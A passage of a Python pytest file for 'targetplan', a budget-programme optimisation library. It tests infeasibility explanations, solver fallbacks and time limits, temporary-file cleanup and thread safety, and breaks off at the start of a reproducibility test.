"""Reliability: impossible plans explained, solver faults, reproducibility, safety, bad input.

What the other test files already cover is not repeated here (see each section):

* Impossible plans: one small constructed conflict per rule kind; each checks the
  year, the group and the amount (worked out by hand in the comments, written with
  ``tp.format_money``) in the message and in ``exc.reasons``.
* Solver faults: time limits with and without a plan, a solver that cannot be loaded or
  fails, bad options, the solver's temporary files (also on interruption), threads.
* Reproducibility: byte-identical exports across *processes* with different hash seeds
  (``test_io.py`` compares runs in one process), ties between identical programmes,
  an independent check of ``requires`` and exclusive groups on random catalogues.
* Safety: hostile text in the catalogue itself, inputs left untouched, a static check
  that the source never evaluates or unpickles anything.
* Bad input: the kinds that ``test_catalog.py`` and ``test_budget_policy.py`` lack.

Amounts are in units of ``G`` = 10^9 rupiah (``Rp 1 M``, one miliar).
"""

from __future__ import annotations

import ast
import csv
import math
import os
import re
import subprocess
import sys
import tempfile
import threading
import tomllib
import warnings
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pulp
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

import targetplan as tp
from helpers import ScriptedBackend, make_catalog, registered
from targetplan import solvers
from targetplan.solvers.cbc import CbcBackend
from targetplan.solvers.highs import SCHEDULER, HighsBackend

# messages are matched in English (the library's default language is Indonesian)
pytestmark = pytest.mark.usefixtures("english")

G = 1e9
SRC = Path(tp.__file__).parent


def money(amount: float) -> str:
    """The amount as the explanations write it (``Rp 1 M``), escaped for a regular expression."""
    return re.escape(tp.format_money(amount))


def infeasible(
    rows: list[dict[str, Any]],
    budget: tp.Budget,
    policy: tp.Policy | None = None,
    *,
    match: str,
    horizon: tuple[int, int] | None = None,
    **options: Any,
) -> list[str]:
    """Assert that no plan exists, that the message matches ``match``; return the reasons."""
    catalog = make_catalog(rows, horizon=horizon)
    with pytest.raises(tp.InfeasiblePlanError, match=match) as info:
        tp.optimize(catalog, budget, policy, mip_gap=0, **options)
    message = str(info.value)
    assert message.startswith("no plan satisfies every rule; what conflicts:\n")
    assert message.splitlines()[1:] == [f"  - {r}" for r in info.value.reasons]
    return info.value.reasons


def hard_catalog(n: int = 300, seed: int = 0) -> tuple[tp.Catalog, tp.Budget]:
    """``n`` whole programmes of 1-3 years with start windows, ceilings at 35 % of the average need.

    A multi-year knapsack with values close to costs: HiGHS finds a plan within 0.2 s but
    needs about 15 s to prove optimality (mip_gap=0) on the machine this was written on.
    """
    rng = np.random.default_rng(seed)
    years = list(range(2024, 2029))
    rows = []
    for i in range(n):
        length = int(rng.integers(1, 4))
        first = int(rng.integers(0, 6 - length))
        last = int(rng.integers(first, 6 - length))
        parts = rng.integers(10, 100, size=length)
        row: dict[str, Any] = {
            "id": f"P{i:03d}",
            "priority": float(parts.sum() + rng.integers(0, 10)),
            "earliest_start": years[first],
            "latest_start": years[last],
        }
        for t, y in enumerate(years):
            k = t - first
            row[f"cost_{y}"] = float(parts[k]) * 1e7 if 0 <= k < length else 0.0
        rows.append(row)
    catalog = make_catalog(rows)
    total = float(catalog.cost_matrix().sum())
    return catalog, tp.Budget(ceilings={y: total / len(years) * 0.35 for y in years})


@pytest.fixture(scope="module")
def hard() -> tuple[tp.Catalog, tp.Budget]:
    return hard_catalog()


@pytest.fixture
def quiet_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty folder used as the system temporary folder for the duration of the test."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def no_highspy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make ``import highspy`` fail, as on a machine where its binary wheel is missing or broken."""
    monkeypatch.setitem(sys.modules, "highspy", None)


# ============================================================================ impossible plans
# The quick checks and the elastic re-solve of diagnose.py, one constructed conflict per rule kind.


def test_mandatory_programmes_alone_exceed_a_ceiling() -> None:
    # Quick check. Ceiling 5 less a 20 % reserve = 4; mandatory A (3) and B (2) need 5: 1 too much.
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 3 * G, "mandatory": True},
        {"id": "B", "priority": 1, "cost_2024": 2 * G, "mandatory": True},
        {"id": "C", "priority": 9, "cost_2024": 1 * G},
    ]
    reasons = infeasible(
        rows,
        tp.Budget(ceilings={2024: 5 * G}, reserve=0.2),
        match=rf"2024: mandatory programmes alone \(A, B\) need {money(5 * G)}, {money(1 * G)} above "
        rf"the ceiling less reserve {money(4 * G)}",
    )
    assert reasons == [
        f"2024: mandatory programmes alone (A, B) need {tp.format_money(5 * G)}, {tp.format_money(1 * G)} above "
        f"the ceiling less reserve {tp.format_money(4 * G)}"
    ]


def test_group_floor_above_the_ceiling() -> None:
    # Quick check. The governance floor (6) is above the whole 2024 ceiling (5), whatever runs.
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 3 * G, "dimension": "governance"},
        {"id": "B", "priority": 1, "cost_2024": 9 * G, "dimension": "governance"},
    ]
    budget = tp.Budget(
        ceilings={2024: 5 * G}, limits=[tp.GroupLimit(group_by="dimension", group="governance", floor=6 * G)]
    )
    reasons = infeasible(
        rows,
        budget,
        match=rf"2024: the floor for dimension governance \({money(6 * G)}\) is above the ceiling less reserve "
        rf"\({money(5 * G)}\)",
    )
    assert len(reasons) == 1


def test_group_floor_more_than_its_programmes_could_spend() -> None:
    # Quick check. The only governance programme costs 1, the governance floor is 3; the ceiling (10) is ample.
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 1 * G, "dimension": "governance"},
        {"id": "B", "priority": 1, "cost_2024": 2 * G, "dimension": "living"},
    ]
    budget = tp.Budget(
        ceilings={2024: 10 * G}, limits=[tp.GroupLimit(group_by="dimension", group="governance", floor=3 * G)]
    )
    reasons = infeasible(
        rows,
        budget,
        match=rf"2024: the floor for dimension governance \({money(3 * G)}\) is more than all its programmes "
        rf"could spend that year \({money(1 * G)}\)",
    )
    assert len(reasons) == 1


def test_group_cap_that_blocks_a_mandatory_programme() -> None:
    # Elastic. Mandatory A (governance, 3) under a governance cap of 2 for 2024: the cap must rise by 1.
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 3 * G, "dimension": "governance", "mandatory": True},
        {"id": "B", "priority": 1, "cost_2024": 2 * G, "dimension": "living"},
    ]
    budget = tp.Budget(
        ceilings={2024: 10 * G},
        limits=[tp.GroupLimit(group_by="dimension", group="governance", year=2024, cap=2 * G)],
    )
    reasons = infeasible(rows, budget, match=rf"dimension governance 2024: the cap would have to rise by {money(G)}")
    assert reasons == [f"dimension governance 2024: the cap would have to rise by {tp.format_money(G)}"]


def test_ceilings_of_two_years() -> None:
    # Elastic (the quick check passes: A may start in 2024 or 2025). Mandatory A costs 3 + 3 over two years;
    # ceilings 2, 2, 2.5. Starting in 2024 needs 1 + 1 = 2 more; starting in 2025 needs 1 more in 2025 and
    # 0.5 more in 2026 = 1.5: the least money, so the explanation names 2025 (Rp 1 M) and 2026 (Rp 500 jt).
    rows = [{"id": "A", "priority": 1, "cost_2024": 3 * G, "cost_2025": 3 * G, "latest_start": 2025, "mandatory": True}]
    reasons = infeasible(
        rows,
        tp.Budget(ceilings={2024: 2 * G, 2025: 2 * G, 2026: 2.5 * G}),
        horizon=(2024, 2026),
        match=rf"2025: the ceiling \(less reserve\) would have to rise by {money(G)}(.|\n)*"
        rf"2026: the ceiling \(less reserve\) would have to rise by {money(0.5 * G)}",
    )
    assert [r.split(":")[0] for r in reasons] == ["2025", "2026"]
    assert not any(r.startswith("2024") for r in reasons)


def test_continuity_floor_out_of_reach() -> None:
    # Elastic. Carry-overs A (priority 6, cost 5) and B (4, cost 5); ceiling 6 fits one of them. A floor of
    # 0.9 asks for 9 of their 10 points; A alone delivers 6: 3 points short. (A point is priced at the
    # catalogue's average cost of a point, 10 G / 10 = 1 G, so 3 points beat raising the ceiling by 4.)
    rows = [
        {"id": "A", "priority": 6, "cost_2024": 5 * G, "status": "continuing"},
        {"id": "B", "priority": 4, "cost_2024": 5 * G, "status": "continuing"},
    ]
    reasons = infeasible(
        rows,
        tp.Budget(ceilings={2024: 6 * G}),
        tp.Policy(continuity_floor=0.9),
        match=r"the continuity floor is out of reach: carry-overs fall short by 3\.00 priority points; "
        r"lower continuity_floor",
    )
    assert len(reasons) == 1


def test_commitment_cap() -> None:
    # Elastic. Terms 2024 | 2025. Mandatory A starts in 2024 and costs 1 then 3; the commitment cap allows
    # 0.5 x the 2025 ceiling (4) = 2 for programmes started before 2025: 1 too much.
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 1 * G, "cost_2025": 3 * G, "mandatory": True},
        {"id": "B", "priority": 1, "cost_2024": 0.0, "cost_2025": 1 * G},
    ]
    policy = tp.Policy(terms=[tp.Term("a", 2024, 2024), tp.Term("b", 2025, 2025)], commitment_cap=0.5)
    reasons = infeasible(
        rows,
        tp.Budget(ceilings={2024: 5 * G, 2025: 4 * G}),
        policy,
        match=rf"commitment cap 2025 \(programmes started before 2025\): programmes started earlier need "
        rf"{money(G)} more than the commitment cap allows",
    )
    assert len(reasons) == 1


def test_funding_source_ceiling() -> None:
    # Elastic. Mandatory A is paid 3 from DAK and 1 from PAD in 2024; DAK may pay at most 1: 2 too much.
    rows = [
        {
            "id": "A",
            "priority": 1,
            "cost_2024": 4 * G,
            "cost_2024_DAK": 3 * G,
            "cost_2024_PAD": 1 * G,
            "mandatory": True,
        },
        {"id": "B", "priority": 1, "cost_2024": 1 * G},
    ]
    budget = tp.Budget(ceilings={2024: 10 * G}, source_ceilings={"DAK": {2024: 1 * G}})
    reasons = infeasible(
        rows, budget, match=rf"source DAK 2024: this funding source's ceiling would have to rise by {money(2 * G)}"
    )
    assert reasons == [f"source DAK 2024: this funding source's ceiling would have to rise by {tp.format_money(2 * G)}"]


def test_count_cap_with_mandatory_programmes() -> None:
    # Elastic. Two mandatory programmes, at most one running: one more must be allowed (money cannot help).
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 1 * G, "mandatory": True},
        {"id": "B", "priority": 1, "cost_2024": 1 * G, "mandatory": True},
        {"id": "C", "priority": 5, "cost_2024": 1 * G},
    ]
    reasons = infeasible(
        rows,
        tp.Budget(ceilings={2024: 10 * G}),
        tp.Policy(count_caps=[tp.CountCap(max_running=1)]),
        match=r"at most 1 running in 2024 \(all programmes\): 1 more programme\(s\) would have to be allowed",
    )
    assert len(reasons) == 1


_REQUIRED_ROWS = [
    # Exclusive group DC must have one programme running; A (11) and B (12) are both above the ceiling (10).
    {"id": "A", "priority": 3, "cost_2024": 11 * G, "exclusive_group": "DC", "group_required": True},
    {"id": "B", "priority": 2, "cost_2024": 12 * G, "exclusive_group": "DC", "group_required": True},
    {"id": "C", "priority": 1, "cost_2024": 1 * G},
]


def test_required_alternative_that_cannot_fit_costs_the_cheapest_member() -> None:
    # Elastic. The cheapest member A needs 1 more than the ceiling.
    reasons = infeasible(
        _REQUIRED_ROWS,
        tp.Budget(ceilings={2024: 10 * G}),
        match=rf"2024: the ceiling \(less reserve\) would have to rise by {money(G)}",
    )
    assert len(reasons) == 1


def test_required_alternative_that_cannot_fit_names_the_group() -> None:
    infeasible(
        _REQUIRED_ROWS,
        tp.Budget(ceilings={2024: 10 * G}),
        match=rf"(?m)^  - 2024: the ceiling \(less reserve\) would have to rise by {money(G)}, "
        r"or the programmes that must run \(A, one of the required group DC\) would have to cost that much less$",
    )


def test_mandatory_programmes_named_where_money_is_short() -> None:
    # M is mandatory in 2024 or 2025; N in 2025 only: 4 + 3 > 6 in 2025 unless M starts in 2024, where 4 > 3
    rows = [
        {"id": "M", "priority": 1, "cost_2024": 4 * G, "latest_start": 2025, "mandatory": True},
        {"id": "N", "priority": 1, "cost_2024": 0, "cost_2025": 3 * G, "mandatory": True},
    ]
    infeasible(
        rows,
        tp.Budget(ceilings={2024: 3 * G, 2025: 6 * G}),
        match=r"(?m)^  - 20(24|25): the ceiling \(less reserve\) would have to rise by .*, "
        r"or the programmes that must run \((M, mandatory|M, mandatory; N, mandatory)\) "
        r"would have to cost that much less$",
    )


_FLOOR_AND_CAP = tp.Budget(
    ceilings={2024: 10 * G},
    limits=[
        tp.GroupLimit(group_by="dimension", group="governance", floor=3 * G),
        tp.GroupLimit(group_by="dimension", group="governance", year=2024, cap=2 * G),
    ],
)
_FLOOR_AND_CAP_ROWS = [
    {"id": "A", "priority": 1, "cost_2024": 2 * G, "dimension": "governance"},
    {"id": "B", "priority": 1, "cost_2024": 2 * G, "dimension": "governance"},
    {"id": "C", "priority": 1, "cost_2024": 2 * G, "dimension": "living"},
]


def test_floor_of_one_limit_above_the_cap_of_another_names_both_amounts() -> None:
    # Two limits on governance: a floor of 3 (every year) and a cap of 2 in 2024. One must move by 1.
    reasons = infeasible(
        _FLOOR_AND_CAP_ROWS,
        _FLOOR_AND_CAP,
        match=rf"(?m)^  - 2024: the floor for dimension governance \({money(3 * G)}\) "
        rf"is above its cap \({money(2 * G)}\); lower the floor or raise the cap$",
    )
    assert len(reasons) == 1


def test_raise_on_failure_false_returns_an_infeasible_plan_that_says_why() -> None:
    rows = [{"id": "A", "priority": 1, "cost_2024": 3 * G, "mandatory": True}]
    plan = tp.optimize(make_catalog(rows), tp.Budget(ceilings={2024: 2 * G}), raise_on_failure=False)
    assert plan.status == tp.SolveStatus.INFEASIBLE
    assert not plan.is_ok and not plan.status.has_plan
    assert plan.message == (
        f"no plan satisfies every rule: 2024: mandatory programmes alone (A) need {tp.format_money(3 * G)}, "
        f"{tp.format_money(G)} above the ceiling less reserve {tp.format_money(2 * G)}"
    )
    assert math.isnan(plan.total_value) and plan.mip_gap is None
    # the whole API, with what is unknown missing (not zero: "spent nothing" would be a false answer)
    assert list(plan.selection.index) == ["A"] and plan.selection["runs"].isna().all()
    assert plan.selection[["level", "value", "cost"]].isna().all().all()
    for table in (plan.levels, plan.targets, plan.costs):
        assert table.isna().all().all()
    assert plan.yearly["allocated"].isna().all() and plan.selected_ids == []


def test_explanation_without_highs_still_names_the_money(monkeypatch: pytest.MonkeyPatch) -> None:
    from targetplan.planning import explain_infeasibility

    # A starts in 2025 (1 G over in 2025, 0.5 G in 2026) rather than 2024 (1 G over in 2024 and in 2025)
    rows = [{"id": "A", "priority": 1, "cost_2024": 3 * G, "cost_2025": 3 * G, "latest_start": 2025, "mandatory": True}]
    budget = tp.Budget(ceilings={2024: 2 * G, 2025: 2 * G, 2026: 2.5 * G})
    with_highs = explain_infeasibility(make_catalog(rows, horizon=(2024, 2026)), budget)
    no_highspy(monkeypatch)
    reasons = infeasible(rows, budget, horizon=(2024, 2026), match="2025")
    assert reasons == with_highs  # the same least-money explanation, found by CBC
    assert [r.split(":")[0] for r in reasons] == ["2025", "2026"]


# ============================================================================ solver faults
def test_time_limit_with_a_plan_is_feasible_with_its_gap_and_a_warning(hard: tuple[tp.Catalog, tp.Budget]) -> None:
    # Real time limit, no monkeypatch: the hard catalogue needs ~15 s to prove optimality, a plan is
    # found within 0.2 s, so 1 s leaves a wide margin either way.
    catalog, budget = hard
    with pytest.warns(tp.TimeLimitWarning, match=r"time limit was reached: .* proven within a gap of") as record:
        plan = tp.optimize(catalog, budget, mip_gap=0, time_limit=1.0)
    assert len(record) == 1
    assert record[0].filename == __file__  # stacklevel points at the caller of optimize
    assert isinstance(record[0].message, tp.TargetplanWarning)
    assert plan.status == tp.SolveStatus.FEASIBLE and plan.is_ok
    assert plan.mip_gap is not None and 0 < plan.mip_gap < 1
    assert f"{plan.mip_gap:.3%}" in str(record[0].message)
    plan.check()
    spend = plan.costs.sum(axis=0)
    assert all(spend[y] <= budget.ceilings[y] * (1 + 1e-6) for y in budget.years)


def test_cbc_time_limit_reports_a_positive_gap(hard: tuple[tp.Catalog, tp.Budget]) -> None:
    catalog, budget = hard
    with pytest.warns(tp.TimeLimitWarning) as record:
        plan = tp.optimize(catalog, budget, mip_gap=0, time_limit=1.0, solver="cbc")
    assert plan.status == tp.SolveStatus.FEASIBLE
    # CBC's summary: "Objective value: 12859", "Upper bound: 12886.606", "Gap: -0.00" (two decimals, wrong sign)
    assert "-0.000%" not in str(record[0].message)
    assert plan.mip_gap is not None and 0 < plan.mip_gap < 0.05
    assert f"{plan.mip_gap:.3%}" in str(record[0].message)


@pytest.mark.parametrize("status", ["optimal", "feasible", "no_solution"])
def test_a_solve_far_past_its_time_limit_says_so(status: str, small_catalog: tp.Catalog) -> None:
    """HiGHS reads its clock only between steps (a 5 s limit took 12-17 s at 50,000 programmes in the
    benchmarks): the warning or error says how long the solve took. The overrun is simulated on a
    real result, since a real one needs a model far too large for the test suite."""
    import dataclasses

    from targetplan.planning.optimize import finish_plan
    from targetplan.solvers import SolveStatus

    form = tp.build(small_catalog, tp.Budget(ceilings={2024: 8e9}), tp.Policy())
    real = solvers.solve(form, time_limit=5.0)
    result = dataclasses.replace(real, status=SolveStatus(status), seconds=17.3)
    if status == "no_solution":
        result = dataclasses.replace(result, x=None)
        with pytest.raises(tp.SolverFailedError, match=r"before finding any plan \(it took 17.3 s against 5 s: "):
            finish_plan(form, result, {"time_limit": 5.0}, raise_on_failure=True)
        return
    expected = "time limit was reached" if status == "feasible" else "ran past its time limit"
    with pytest.warns(tp.TimeLimitWarning, match=rf"{expected} \(it took 17.3 s against 5 s: the solver checks"):
        plan = finish_plan(form, result, {"time_limit": 5.0}, raise_on_failure=True)
    assert plan.is_ok
    # within 1.5 times the limit (and 2 s) nothing is said
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        finish_plan(form, dataclasses.replace(real, seconds=6.9), {"time_limit": 5.0}, raise_on_failure=True)


@pytest.mark.parametrize("solver", ["highs", "cbc"])
def test_time_limit_without_a_plan_suggests_a_longer_limit_or_a_larger_gap(
    solver: str, hard: tuple[tp.Catalog, tp.Budget], quiet_tmp: Path
) -> None:
    # A time limit of 1 ns stops either solver before its first plan (real, no monkeypatch).
    catalog, budget = hard
    with pytest.raises(
        tp.SolverFailedError,
        match=r"^the solver stopped at the time limit \(1e-09 s\) before finding any plan; "
        r"give a longer time_limit or a larger mip_gap$",
    ):
        tp.optimize(catalog, budget, time_limit=1e-9, solver=solver)
    plan = tp.optimize(catalog, budget, time_limit=1e-9, solver=solver, raise_on_failure=False)
    assert plan.status == tp.SolveStatus.NO_SOLUTION and not plan.is_ok
    assert "give a longer time_limit or a larger mip_gap" in plan.message
    assert list(quiet_tmp.iterdir()) == []


def test_highs_not_loadable_auto_falls_back_to_cbc_with_the_same_optimum(
    monkeypatch: pytest.MonkeyPatch, bogor: tp.Example
) -> None:
    budget = bogor.budget.scale(0.9)
    highs = tp.optimize(bogor.catalog, budget, mip_gap=0)
    no_highspy(monkeypatch)
    assert tp.available_solvers() == ["cbc"]
    fallback = tp.optimize(bogor.catalog, budget, mip_gap=0).check()
    assert (highs.solver, fallback.solver) == ("highs", "cbc")
    assert fallback.status == tp.SolveStatus.OPTIMAL
    assert fallback.objective_value == pytest.approx(highs.objective_value, rel=1e-9)


def test_highs_not_loadable_names_highspy_and_the_fix(
    monkeypatch: pytest.MonkeyPatch, small_catalog: tp.Catalog
) -> None:
    no_highspy(monkeypatch)
    with pytest.raises(
        tp.SolverUnavailableError,
        match=r"the HiGHS solver could not be loaded \(ModuleNotFoundError: .*highspy.*\)\. "
        r"Reinstall it with 'pip install --force-reinstall highspy', or pass solver='cbc' to use PuLP's CBC\.",
    ):
        tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver="highs")


class BrokenHighs(HighsBackend):
    """HiGHS as on a machine where its binary wheel does not load."""

    def check(self) -> None:
        raise tp.SolverUnavailableError("highspy: DLL load failed")


def test_highs_load_failure_falls_back_and_keeps_its_message(small_catalog: tp.Catalog) -> None:
    with registered(BrokenHighs()):
        plan = tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), mip_gap=0)
        assert plan.solver == "cbc" and sorted(plan.selected_ids) == ["A", "C"]
        with pytest.raises(tp.SolverUnavailableError, match="highspy: DLL load failed"):
            tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver="highs")


@pytest.mark.parametrize("solver", ["cbc", "auto"])
def test_cbc_not_available_says_how_to_install_it(
    solver: str, monkeypatch: pytest.MonkeyPatch, small_catalog: tp.Catalog
) -> None:
    if solver == "auto":  # nothing left to fall back on
        no_highspy(monkeypatch)
    with registered(CbcBackend(make_command=lambda **options: None)):  # as where CBC is not installed
        if solver == "auto":
            assert tp.available_solvers() == []
        with pytest.raises(
            tp.SolverUnavailableError,
            match=r"the CBC solver is not available on this machine\. With PuLP 3 it comes inside PuLP "
            r"\('pip install --force-reinstall \"pulp<4\"'\); with PuLP 4 install 'pulp\[cbc\]'\. "
            r"Or use solver='highs' \(the default\)\.$",
        ):
            tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver=solver)


def test_default_solvers_work_after_install() -> None:
    assert tp.available_solvers() == ["highs", "cbc"]
    project = tomllib.loads((SRC.parents[1] / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    names = {re.split(r"[<>=!\[ ;]", d, maxsplit=1)[0] for d in project["dependencies"]}
    assert {"highspy", "pulp"} <= names  # both solvers come with a plain pip install, no extra needed


@pytest.mark.parametrize("solver", ["gurobi", "", "high"])
def test_unknown_solver_name(solver: str, small_catalog: tp.Catalog) -> None:
    with pytest.raises(
        tp.SolverUnavailableError,
        match=rf"^unknown solver {re.escape(repr(solver))}; choose 'highs' \(default\), 'cbc' or 'auto'$",
    ):
        tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver=solver)  # type: ignore[arg-type]


def test_solver_names_ignore_case(small_catalog: tp.Catalog) -> None:
    plan = tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver="HiGHS")  # type: ignore[arg-type]
    assert plan.solver == "highs"


@pytest.mark.parametrize(
    ("options", "match"),
    [
        ({"mip_gap": -0.1}, r"mip_gap must be a share from 0 up to 1 \(got -0\.1\); e\.g\. 1e-3 for 0\.1 %"),
        ({"mip_gap": 1.0}, r"mip_gap must be a share from 0 up to 1 \(got 1\.0\)"),
        ({"mip_gap": math.nan}, r"mip_gap must be a share from 0 up to 1 \(got nan\)"),
        ({"mip_gap": "0.01"}, r"mip_gap must be a share from 0 up to 1 \(got '0\.01'\)"),
        ({"time_limit": 0}, r"time_limit must be a positive number of seconds \(got 0\)"),
        ({"time_limit": -5.0}, r"time_limit must be a positive number of seconds \(got -5\.0\)"),
        ({"time_limit": math.nan}, r"time_limit must be a positive number of seconds \(got nan\)"),
        ({"time_limit": "60"}, r"time_limit must be a positive number of seconds \(got '60'\)"),
        ({"threads": 0}, r"threads must be a whole number of at least 1 \(got 0\)"),
        ({"threads": 2.5}, r"threads must be a whole number of at least 1 \(got 2\.5\)"),
        ({"threads": "4"}, r"threads must be a whole number of at least 1 \(got '4'\)"),
        (
            {"mip_gap": 2, "time_limit": -1, "threads": 0},
            r"^mip_gap must .*\(got 2\).*; time_limit must .*\(got -1\); threads must .*\(got 0\)$",
        ),
    ],
    ids=[
        "gap-negative",
        "gap-1",
        "gap-nan",
        "gap-text",
        "time-zero",
        "time-negative",
        "time-nan",
        "time-text",
        "threads-zero",
        "threads-fraction",
        "threads-text",
        "all-three",
    ],
)
def test_bad_solver_options(options: dict[str, Any], match: str, small_catalog: tp.Catalog) -> None:
    with pytest.raises(tp.ArgumentError, match=match) as info:
        tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), **options)
    assert isinstance(info.value, ValueError)  # a caller may catch it as Python's own


def test_highs_that_fails_names_the_solver_and_the_alternative(small_catalog: tp.Catalog) -> None:
    def error(form: Any) -> solvers.SolverResult:
        return solvers.SolverResult(tp.SolveStatus.ERROR, None, math.nan, math.nan, None, "highs", 0.0, "Solve error")

    budget = tp.Budget(ceilings={2024: 8 * G})
    with registered(ScriptedBackend(error)):
        with pytest.raises(
            tp.SolverFailedError, match=r"^the highs solver failed \(Solve error\); try the other solver with solver="
        ):
            tp.optimize(small_catalog, budget)
        plan = tp.optimize(small_catalog, budget, raise_on_failure=False)
    assert plan.status == tp.SolveStatus.ERROR and "the highs solver failed" in plan.message


def test_cbc_that_fails_names_the_solver_and_leaves_no_files(
    monkeypatch: pytest.MonkeyPatch, small_catalog: tp.Catalog, quiet_tmp: Path
) -> None:
    def fail(self: Any, solver: Any = None, **kwargs: Any) -> int:
        Path(solver.tmpDir, "model.mps").write_text("half-written", encoding="utf-8")
        raise pulp.PulpSolverError("Pulp: Error while trying to execute cbc")

    monkeypatch.setattr(pulp.LpProblem, "solve", fail)
    with pytest.raises(
        tp.SolverFailedError, match=r"^CBC failed: Pulp: Error while trying to execute cbc\. Try solver='highs'\.$"
    ):
        tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver="cbc")
    assert list(quiet_tmp.iterdir()) == []


def test_cbc_leaves_no_temporary_files(small_catalog: tp.Catalog, quiet_tmp: Path) -> None:
    plan = tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver="cbc", mip_gap=0)
    assert sorted(plan.selected_ids) == ["A", "C"]
    assert list(quiet_tmp.iterdir()) == []


def test_cbc_temporary_folder_is_removed_when_the_solve_is_interrupted(
    monkeypatch: pytest.MonkeyPatch, small_catalog: tp.Catalog, quiet_tmp: Path
) -> None:
    # Ctrl-C while CBC runs: the model and log files are on disk, the process is killed, and
    # KeyboardInterrupt reaches the caller. The folder must still go.
    seen: list[Path] = []
    real_wait = subprocess.Popen.wait

    def interrupted(self: subprocess.Popen, timeout: float | None = None) -> int:
        seen.extend(p.relative_to(quiet_tmp) for p in quiet_tmp.rglob("*"))
        self.kill()
        real_wait(self)
        raise KeyboardInterrupt

    monkeypatch.setattr(subprocess.Popen, "wait", interrupted)
    with pytest.raises(KeyboardInterrupt):
        tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8 * G}), solver="cbc")
    monkeypatch.undo()
    assert any(p.parts[0].startswith("targetplan-cbc-") and p.suffix == ".mps" for p in seen), seen
    assert list(quiet_tmp.iterdir()) == []


def test_threads_solving_different_budgets_give_the_serial_plans(bogor: tp.Example, capfd: Any) -> None:
    scales = (0.5, 0.6, 0.9, 1.1)

    def solve(scale: float) -> tp.Plan:
        return tp.optimize(bogor.catalog, bogor.budget.scale(scale), mip_gap=1e-3)

    serial = [solve(s) for s in scales]
    start = threading.Barrier(len(scales))

    def together(scale: float) -> tp.Plan:
        start.wait()  # all four solves begin at the same moment
        return solve(scale)

    with ThreadPoolExecutor(len(scales)) as pool:
        parallel = list(pool.map(together, scales))
    assert len({p.total_value for p in serial}) == len(scales)  # four different plans
    for one, other in zip(serial, parallel, strict=True):
        assert other.status == tp.SolveStatus.OPTIMAL
        assert other.total_value == one.total_value
        for name in ("selection", "levels", "costs", "targets"):
            pd.testing.assert_frame_equal(getattr(other, name), getattr(one, name), check_exact=True)
    during = capfd.readouterr()
    assert "HiGHS" not in during.out  # the banner stayed silenced
    print("python stdout")
    os.write(1, b"descriptor 1\n")
    after = capfd.readouterr().out
    assert "python stdout" in after and "descriptor 1" in after


def test_solves_asking_for_different_thread_counts_one_after_another(bogor: tp.Example) -> None:
    """HiGHS keeps one thread scheduler per process: a solve asking for another number of threads
    than the process's first solve failed ("the highs solver failed (Not Set)") until it was reset."""
    values = [tp.optimize(bogor.catalog, bogor.budget, mip_gap=1e-3, threads=t).total_value for t in (2, None, 1, 3)]
    assert len({round(v, 6) for v in values}) == 1  # the same plan; sums may differ in the last bits
    # a plan's explanations re-solve with the threads the process already uses
    plan = tp.optimize(bogor.catalog, bogor.budget.scale(0.5), mip_gap=1e-3, threads=2)
    left_out = plan.selection.index[~plan.selection["runs"]][0]
    assert plan.efficiency(baselines=False).why(left_out)  # marginal values and explanations re-solve
    assert SCHEDULER.threads == 2
    tp.optimize(bogor.catalog, bogor.budget, mip_gap=1e-3)
    assert SCHEDULER.threads == solvers.DEFAULT_THREADS == 1


def test_concurrent_solves_with_different_thread_counts_are_refused(
    monkeypatch: pytest.MonkeyPatch, small_catalog: tp.Catalog
) -> None:
    tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8e9}), threads=1)
    monkeypatch.setattr(SCHEDULER, "running", 1)  # another thread of this process is inside a one-thread solve
    with pytest.raises(
        tp.TargetplanError,
        match=r"^a solve with threads=1 is running in another thread of this process, and HiGHS uses one number "
        r"of threads per process; pass threads=1 here too$",
    ):
        tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8e9}), threads=2)
    assert tp.optimize(small_catalog, tp.Budget(ceilings={2024: 8e9}), threads=1).is_ok


def test_cbc_in_threads_does_not_mix_files(quiet_tmp: Path) -> None:
    rows = [{"id": f"P{i}", "priority": 1 + (i * 7) % 5, "cost_2024": (1 + i % 4) * G} for i in range(12)]
    catalog = make_catalog(rows)
    ceilings = (3 * G, 5 * G, 8 * G, 13 * G)

    def solve(ceiling: float) -> tp.Plan:
        return tp.optimize(catalog, tp.Budget(ceilings={2024: ceiling}), solver="cbc", mip_gap=0)

    serial = [solve(c) for c in ceilings]
    with ThreadPoolExecutor(len(ceilings)) as pool:
        parallel = list(pool.map(solve, ceilings))
    for one, other in zip(serial, parallel, strict=True):
        assert other.objective_value == pytest.approx(one.objective_value, abs=1e-9)
        other.check()
    assert list(quiet_tmp.iterdir()) == []


# ============================================================================ reproducibility
_RUN = """
import random
import sys
from pathlib import Path

import targetplan as tp

out = Path(sys.argv[1])
example = tp.load_example("bogor")
header, *rows = tp.example_path("bogor", "programs.csv").read_text(encoding="utf-8").splitlines(keepends=True)
random.Random(11).shuffle(rows)
(out / "programs.csv").write_text(header + "".join(rows), encoding="utf-8")
for name, path in (("given", tp.example_path("bogor", "programs.csv")), ("shuffled", out / "programs.csv")):
